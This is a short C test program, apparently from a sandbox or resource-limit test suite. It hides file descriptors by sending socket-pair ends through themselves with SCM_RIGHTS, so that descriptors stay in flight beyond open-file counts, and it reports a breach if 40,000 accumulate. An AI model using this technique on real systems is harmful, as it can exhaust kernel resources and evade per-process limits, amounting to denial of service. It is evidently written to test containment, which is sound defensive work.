// ends: exited 0
// Hides descriptors inside sockets that are sent through themselves, beyond every count of open
// files. SPDX-License-Identifier: MIT
#include <sys/socket.h>

#include "attack.h"
static int send_fd(int through, int fd) {
    char byte = 0;
    struct iovec data = {&byte, 1};
    union {
        char bytes[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } control;
    memset(&control, 0, sizeof control);
    struct msghdr message;
    memset(&message, 0, sizeof message);
    message.msg_iov = &data;
    message.msg_iovlen = 1;
    message.msg_control = control.bytes;
    message.msg_controllen = sizeof control.bytes;
    struct cmsghdr* const header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    return sendmsg(through, &message, MSG_DONTWAIT | MSG_NOSIGNAL) == 1;
}
int main(void) {
    int hidden = 0;
    for (int round = 0; round < 20000; round++) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) break;
        if (!send_fd(ends[0], ends[1]) || !send_fd(ends[1], ends[0])) round = 20000;
        hidden += 2;
        close(ends[0]);
        close(ends[1]);
    }
    if (hidden >= 40000) breach("forty thousand descriptors in flight");
    return held();
}
